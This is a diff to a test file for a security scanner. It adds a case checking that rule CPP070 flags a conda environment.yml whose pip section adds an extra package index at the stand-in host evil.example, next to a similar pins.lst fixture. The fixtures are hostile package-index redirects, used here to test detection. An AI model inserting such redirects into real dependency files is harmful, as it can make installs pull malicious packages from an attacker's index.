@@ -286,6 +286,10 @@ describe('the Python stage in the whole pipeline, with no requirements*.txt or l
         'pins.lst': '-i https://evil.example/simple\nx==1\n',
       },
     },
+    {
+      name: 'a conda environment.yml alone',
+      files: { 'environment.yml': 'dependencies:\n  - pip:\n    - --extra-index-url https://evil.example/simple\n' },
+    },
   ])('$name: CPP070 for evil.example', async ({ files }) => {
     const r = await scanAsCli(tree(files));
     expect(r.findings.filter((f) => f.ruleId === 'CPP070').map((f) => f.evidence?.['host'])).toEqual(['evil.example']);
